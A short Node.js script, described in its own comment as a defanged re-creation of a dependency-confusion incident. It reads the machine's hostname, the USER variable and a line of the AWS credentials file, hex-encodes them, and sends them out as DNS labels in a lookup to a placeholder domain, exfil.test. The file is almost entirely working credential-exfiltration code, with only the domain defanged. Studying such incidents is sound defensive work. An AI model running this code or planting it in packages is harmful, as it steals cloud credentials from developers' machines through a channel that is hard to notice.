// Incident re-creation (dependency-confusion style): data leaves as DNS names. Defanged (.test).
const dns = require('dns');
const os = require('os');
const fs = require('fs');
let secret = os.hostname() + ':' + (process.env.USER || '');
try { secret += ':' + fs.readFileSync(os.homedir() + '/.aws/credentials', 'utf8').split('\n')[1]; } catch (e) {}
const hex = Buffer.from(secret).toString('hex');
const labels = hex.match(/.{1,60}/g).slice(0, 3).join('.');
dns.resolve4(labels + '.x.exfil.test', () => process.exit(0));
setTimeout(() => process.exit(0), 3000);
